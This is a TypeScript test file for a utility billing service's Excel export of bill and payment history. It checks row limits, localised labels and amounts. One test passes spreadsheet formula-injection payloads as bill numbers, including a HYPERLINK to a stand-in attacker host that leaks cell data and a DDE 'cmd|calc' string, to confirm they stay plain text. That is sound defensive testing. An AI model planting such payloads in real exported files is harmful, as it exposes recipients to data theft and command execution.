import { inflateRawSync } from 'node:zlib';
import type { Pool } from '@wattershed/database/pool';
import { knownAccountNumber } from '@wattershed/domain/account/account-number';
import { localDate } from '@wattershed/domain/calendar/local-date';
import { cents } from '@wattershed/domain/money/cents';
import { describe, expect, it } from 'vitest';
import { systemAccess } from '../../access/system-access.ts';
import type { Services } from '../../call.ts';
import type { BillingAmountsOwed } from '../../gateways/billing-system/amounts-owed.ts';
import type { BillingBill } from '../../gateways/billing-system/bill.ts';
import type { BillingSystem } from '../../gateways/billing-system/port.ts';
import type { Gateways } from '../../gateways/gateways.ts';
import { billRow, exportWorkbook, paymentRow } from './history-export.ts';
import type { PaymentEntry } from './payment-history.ts';

const bill = { billNumber: '202611020001' } as BillingBill;
const dated = {
  ...bill,
  issuedOn: localDate('2026-11-02'),
  dueOn: localDate('2026-11-23'),
  periodFrom: localDate('2026-10-02'),
  periodBefore: localDate('2026-11-02'),
  previousBalanceCents: cents(10_000),
  paymentsCents: cents(4_000),
  adjustmentsCents: cents(-500),
  currentChargesCents: cents(8_614),
  totalDueCents: cents(14_114),
  usageWh: 559_000,
  usageGallons: null,
} as BillingBill;

const standing: Pick<BillingSystem, 'getAmountsOwed' | 'findBillStates'> = {
  getAmountsOwed: async () => ({}) as BillingAmountsOwed,
  findBillStates: async (_accountNumber, bills) => new Map(bills.map(({ billNumber }) => [billNumber, 'paid'])),
};

/** A file of bills needs neither. */
const unused = { db: undefined as unknown as Pool, config: undefined as unknown as Services['config'] };

/** A billing system with this many pages of 500 bills. */
function sources(pages: number, read: string[]) {
  const billingSystem: Pick<BillingSystem, 'listBills' | 'getAmountsOwed' | 'findBillStates'> = {
    ...standing,
    async listBills(_accountNumber, { before }) {
      read.push(before ?? 'newest');
      const page = Number(before ?? 0) + 1;
      return { bills: Array.from({ length: 500 }, () => dated), nextCursor: page < pages ? String(page) : null };
    },
  };
  return { ...unused, gateways: { billingSystem } as unknown as Gateways };
}

/** The packed parts of the file by their names, read from its list of contents (the zip format, APPNOTE 4.3). */
function partsOf(workbook: Buffer): Map<string, string> {
  const parts = new Map<string, string>();
  const listed = 'PK\x01\x02';
  for (let at = workbook.indexOf(listed); at >= 0; at = workbook.indexOf(listed, at + 4)) {
    const name = workbook.toString('utf8', at + 46, at + 46 + workbook.readUInt16LE(at + 28));
    const entry = workbook.readUInt32LE(at + 42);
    const from = entry + 30 + workbook.readUInt16LE(entry + 26) + workbook.readUInt16LE(entry + 28);
    const bytes = workbook.subarray(from, from + workbook.readUInt32LE(at + 20));
    parts.set(name, (workbook.readUInt16LE(at + 10) === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'));
  }
  return parts;
}

describe('the Excel file', () => {
  it.each([
    [2, 2],
    [10, 10],
    [40, 10],
  ])('of %i pages of 500 bills reads %i of them: 5,000 rows are the limit', async (pages, expected) => {
    const read: string[] = [];
    const access = systemAccess(knownAccountNumber('100200'), 'a test of the export');
    await exportWorkbook(sources(pages, read), access, { tab: 'bills', language: 'EN_US' });
    expect(read).toHaveLength(expected);
  });
});

/** The values of a row as a reader sees them; an empty cell is null. */
const valuesOf = (row: ReturnType<typeof paymentRow>) =>
  row.map(cell => (cell && typeof cell === 'object' && 'value' in cell ? cell.value : cell));

const payment: PaymentEntry = {
  paymentId: '22222222-2222-4222-8222-222222222222',
  paidAt: '2026-11-10T03:00:00Z',
  ...{ amountCents: cents(8_614), feeCents: cents(199), method: 'Visa', methodLast4: '4242' },
  ...{ confirmation: 'WS-4711', location: null, state: 'posted', hasReceipt: true },
};
const unconfirmed = { ...payment, confirmation: '', hasReceipt: false };

describe('a row of the Excel file', () => {
  it.each([
    [payment, 86.14, 1.99, 'Visa', 'Paid'],
    [{ ...payment, state: 'returned' }, 86.14, 1.99, 'Visa', 'Returned by the bank'],
    [{ ...unconfirmed, state: 'declined' }, 86.14, null, 'Visa', 'Declined'],
    [{ ...unconfirmed, state: 'failed' }, 86.14, null, 'Visa', 'Not completed'],
    [{ ...unconfirmed, state: 'outcome-unknown' }, 88.13, null, 'Visa', 'Being confirmed. Don’t pay again.'],
    [{ ...payment, feeCents: cents(0), method: 'bank' }, 86.14, 0, 'Bank account', 'Paid'],
    [{ ...payment, feeCents: cents(0), method: 'Cash' }, 86.14, 0, 'Cash', 'Paid'],
  ] as const)('says of %j what the screen says', (entry, amount, fee, method, state) => {
    expect(valuesOf(paymentRow(entry, 'America/Los_Angeles', 'EN_US'))).toEqual([
      ...[new Date('2026-11-09'), amount, fee, method, '4242', state, entry.confirmation, 'Utility bill'],
    ]);
  });

  it.each([
    ['permit', 'EN_US', 'Parking permits, application 45010501'],
    ['invoice', 'ES', 'Factura 45010501'],
    ['reconnection', 'FR', 'Rétablissement du service'],
  ] as const)('says what was paid for that is on no bill: %s, %s', (register, language, words) => {
    const entry = { ...payment, charge: { register, number: '45010501' } };
    expect(valuesOf(paymentRow(entry, 'America/Los_Angeles', language)).at(-1)).toBe(words);
  });

  it.each([
    ['deposit', 'EN_US', 208, 'Credited', 'Deposit D4001 returned, with $8.00 in interest'],
    ['check', 'EN_UK', -25, 'Sent', 'Credit sent to you by cheque'],
    ['to-new-account', 'ES', -25, 'Trasladado', 'Saldo a favor trasladado a su cuenta nueva'],
    ['from-old-account', 'FR', 25, 'Crédité', 'Crédit de votre ancien compte'],
  ] as const)('says what is no payment, with its sign: %s, %s', (kind, language, amount, state, words) => {
    const isDeposit = kind === 'deposit';
    const entry = {
      ...{
        ...payment,
        amountCents: cents(amount * 100),
        feeCents: cents(0),
        method: '',
        methodLast4: '',
        confirmation: '',
      },
      ...{
        hasReceipt: false,
        credit: { kind, depositNumber: isDeposit ? 'D4001' : null, interestCents: cents(isDeposit ? 800 : 0) },
      },
    };
    expect(valuesOf(paymentRow(entry, 'America/Los_Angeles', language))).toEqual([
      ...[new Date('2026-11-09'), amount, null, '', '', state, '', words],
    ]);
  });

  it('has amounts of a bill that lead from the previous balance to the total', () => {
    expect(valuesOf(billRow(dated, 'open', 'EN_US')).slice(5, 10)).toEqual([100, 40, -5, 86.14, 141.14]);
  });

  it.each([
    ['open', 'EN_US', 'Open'],
    ['past-due', 'EN_US', 'Past due'],
    ['paid', 'ES', 'Pagada'],
    ['nothing-due', 'EN_US', 'Nothing due'],
  ] as const)('says of a bill that is %s in %s what the screen says: %s', (state, language, words) => {
    expect(valuesOf(billRow(dated, state, language)).at(-1)).toBe(words);
  });

  it.each([
    '=HYPERLINK("https://evil.example?x="&A1,"Pay")',
    '+1+cmd|calc!A0',
    '@SUM(1)',
    '</t></is></c><x>',
    'a\u0001b',
  ])('keeps %j as text, whoever chose it', async billNumber => {
    const listBills = async () => ({ bills: [{ ...dated, billNumber }], nextCursor: null });
    const gateways = { billingSystem: { ...standing, listBills } } as unknown as Gateways;
    const access = systemAccess(knownAccountNumber('100200'), 'a test of the export');
    const file = await exportWorkbook({ ...unused, gateways }, access, {
      tab: 'bills',
      language: 'EN_US',
    });
    const parts = [...partsOf(file)].filter(([name]) => name.endsWith('.xml'));
    expect(parts.length).toBeGreaterThan(3);
    for (const [name, xml] of parts) {
      expect([name, ['<f>', '<f ', '<x>', '\u0001'].filter(part => xml.includes(part))]).toEqual([name, []]);
    }
  });
});
